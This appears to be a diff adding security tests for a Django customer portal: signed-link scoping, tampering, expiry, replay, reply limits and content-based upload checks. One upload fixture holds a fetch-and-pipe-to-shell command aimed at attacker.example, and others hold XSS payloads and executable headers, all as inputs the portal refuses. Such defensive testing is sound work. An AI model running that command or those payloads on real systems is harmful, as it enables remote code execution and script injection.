@@ -1,5 +1,6 @@
 """The customer portal: the signed link by email, reading, acknowledging and replying with an
-attachment checked by content; tampered and expired links refused."""
+attachment checked by content; tampered, mixed-up and expired links refused; replayed replies
+recorded once, and a limit on how many one link can send."""
 
 import copy
 import re
@@ -8,7 +9,9 @@ import pytest
 from django.core import mail, signing
 from django.core.files.uploadedfile import SimpleUploadedFile
 
-from wagtail_correspondence.models import Dispatch, DispatchStatus, PortalResponse
+from wagtail_correspondence.models import AttachmentVersion, Correspondence, Dispatch, DispatchStatus, PortalResponse
+from wagtail_correspondence.portal import tokens
+from wagtail_correspondence.portal.views import MAX_REPLIES_PER_LETTER
 from wagtail_correspondence.services import letters as service
 
 from . import factories
@@ -111,3 +114,118 @@ def test_staff_see_the_replies_on_the_letter(client, agent, portal_letter):
     download = client.get(f"/admin/correspondence/letters/portal-attachments/{reply.pk}/")
     assert download.status_code == 200 and download.content == PDF_BYTES
     assert download["X-Content-Type-Options"] == "nosniff"
+
+
+# Hardening: links for another letter, changed links, expiry, replayed and unwanted replies ----
+
+
+def another_portal_letter(agent, customer_dictionary, standard_layout, django_capture_on_commit_callbacks):
+    template = factories.letter_template(customer_dictionary, standard_layout,
+                                         [factories.fragment(customer_dictionary, key="other", html="<p>Other</p>")],
+                                         title="Other letter", channels=["print", "portal"])
+    with django_capture_on_commit_callbacks(execute=True):
+        return service.generate_letter(agent, service.LetterRequest(
+            template=template, data=copy.deepcopy(factories.SAMPLE_DATA), channel="portal"))
+
+
+def test_a_link_opens_its_own_letter_and_no_other(client, agent, portal_letter, customer_dictionary,
+                                                  standard_layout, django_capture_on_commit_callbacks):
+    other = another_portal_letter(agent, customer_dictionary, standard_layout, django_capture_on_commit_callbacks)
+    first, second = (link_path(message) for message in mail.outbox)
+    page = client.get(first).content.decode()
+    assert portal_letter.reference in page and other.reference not in page
+    assert other.reference in client.get(second).content.decode()
+    # A link naming one letter's delivery and another letter (only the site's key could sign
+    # it: here it stands for a mix-up or a leaked signature) opens neither.
+    dispatch = Dispatch.objects.get(letter=portal_letter, channel="portal")
+    mixed = signing.dumps({"d": dispatch.pk, "l": str(other.uuid)}, salt=tokens.SALT, compress=True)
+    for path in (f"/portal/letters/{mixed}/", f"/portal/letters/{mixed}/pdf/"):
+        response = client.get(path)
+        assert response.status_code == 403
+        assert portal_letter.reference not in response.content.decode()
+        assert other.reference not in response.content.decode()
+    # A delivery on another channel (the letter's print run) is no portal link.
+    printed = Dispatch.objects.create(letter=portal_letter, channel="print")
+    by_print = signing.dumps({"d": printed.pk, "l": str(portal_letter.uuid)}, salt=tokens.SALT, compress=True)
+    assert client.get(f"/portal/letters/{by_print}/").status_code == 403
+
+
+def test_any_change_to_a_link_is_refused(client, portal_letter):
+    path = link_path(mail.outbox[0])
+    token = path.split("/")[-2]
+    payload, _, signature = token.rpartition(":")
+    changed = [
+        token[:-1] + ("A" if token[-1] != "A" else "B"),  # the signature
+        payload[:3] + ("x" if payload[3] != "x" else "y") + payload[4:] + ":" + signature,  # the letter it names
+        payload + ":",  # no signature at all
+        signing.dumps({"d": 1, "l": str(portal_letter.uuid)}, salt=tokens.SALT, key="not-the-site-key"),
+    ]
+    for token_variant in changed:
+        for suffix in ("", "pdf/"):
+            response = client.get(f"/portal/letters/{token_variant}/{suffix}")
+            assert response.status_code == 403, token_variant
+            assert not response.content.startswith(b"%PDF")
+    assert client.post(f"/portal/letters/{changed[1]}/", {"action": "reply", "text": "Hi"}).status_code == 403
+    assert not portal_letter.portal_responses.exists()
+
+
+def test_links_expire_after_the_configured_days(client, portal_letter, settings, monkeypatch):
+    settings.WAGTAIL_CORRESPONDENCE = {**settings.WAGTAIL_CORRESPONDENCE, "PORTAL": {"LINK_MAX_AGE_DAYS": 2}}
+    path = link_path(mail.outbox[0])
+    real_time = signing.time.time
+    monkeypatch.setattr(signing.time, "time", lambda: real_time() + 2 * 86400 - 60)
+    assert client.get(path).status_code == 200
+    monkeypatch.setattr(signing.time, "time", lambda: real_time() + 2 * 86400 + 60)
+    assert client.get(path).status_code == 410 and client.get(path + "pdf/").status_code == 410
+    response = client.post(path, {"action": "reply", "text": "Late reply",
+                                  "attachment": SimpleUploadedFile("receipt.pdf", PDF_BYTES)})
+    assert response.status_code == 410 and not portal_letter.portal_responses.exists()
+
+
+def test_a_replayed_reply_is_recorded_once(client, portal_letter):
+    path = link_path(mail.outbox[0])
+    body = {"action": "reply", "text": "I paid on Monday."}
+    for _ in range(3):  # a double click, a resent form, a replayed request
+        response = client.post(path, {**body, "attachment": SimpleUploadedFile("receipt.pdf", PDF_BYTES)})
+        assert response.status_code == 302
+    assert portal_letter.portal_responses.filter(kind=PortalResponse.REPLY).count() == 1
+    assert Correspondence.objects.filter(portal_response__letter=portal_letter).count() == 1
+    # Another reply (other words, or another file) is a new one.
+    client.post(path, {**body, "attachment": SimpleUploadedFile("receipt.pdf", PDF_BYTES + b"%")})
+    client.post(path, {"action": "reply", "text": "And here is the second page."})
+    assert portal_letter.portal_responses.filter(kind=PortalResponse.REPLY).count() == 3
+
+
+def test_one_link_cannot_flood_the_register(client, portal_letter):
+    path = link_path(mail.outbox[0])
+    for number in range(MAX_REPLIES_PER_LETTER):
+        assert client.post(path, {"action": "reply", "text": f"Reply {number}"}).status_code == 302
+    response = client.post(path, {"action": "reply", "text": "One more"})
+    assert response.status_code == 429 and "as many replies as it can take" in response.content.decode()
+    assert portal_letter.portal_responses.filter(kind=PortalResponse.REPLY).count() == MAX_REPLIES_PER_LETTER
+    assert Correspondence.objects.filter(portal_response__letter=portal_letter).count() == MAX_REPLIES_PER_LETTER
+
+
+@pytest.mark.parametrize("name, content", [
+    ("invoice.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56),  # a Linux program
+    ("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"PE\x00\x00"),  # Windows
+    ("note.txt", b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"),
+    ("letter.html", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
+    ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+])
+def test_programs_scripts_and_markup_are_refused_whatever_their_name(client, portal_letter, name, content):
+    response = client.post(link_path(mail.outbox[0]), {"action": "reply", "text": "See attached",
+                                                       "attachment": SimpleUploadedFile(name, content)})
+    assert response.status_code == 400 and "This type of file is not accepted" in response.content.decode()
+    assert not portal_letter.portal_responses.exists()
+
+
+def test_a_pdf_named_like_a_program_is_kept_as_a_pdf(client, agent, portal_letter):
+    client.post(link_path(mail.outbox[0]), {"action": "reply", "text": "My receipt",
+                                            "attachment": SimpleUploadedFile("receipt.exe", PDF_BYTES,
+                                                                             "application/x-msdownload")})
+    reply = portal_letter.portal_responses.get()
+    assert (reply.attachment_type, reply.attachment_name) == ("application/pdf", "receipt.pdf")
+    entry = Correspondence.objects.get(portal_response=reply)
+    assert [version.filename for version in AttachmentVersion.objects.filter(attachment__correspondence=entry)] == [
+        "receipt.pdf"]
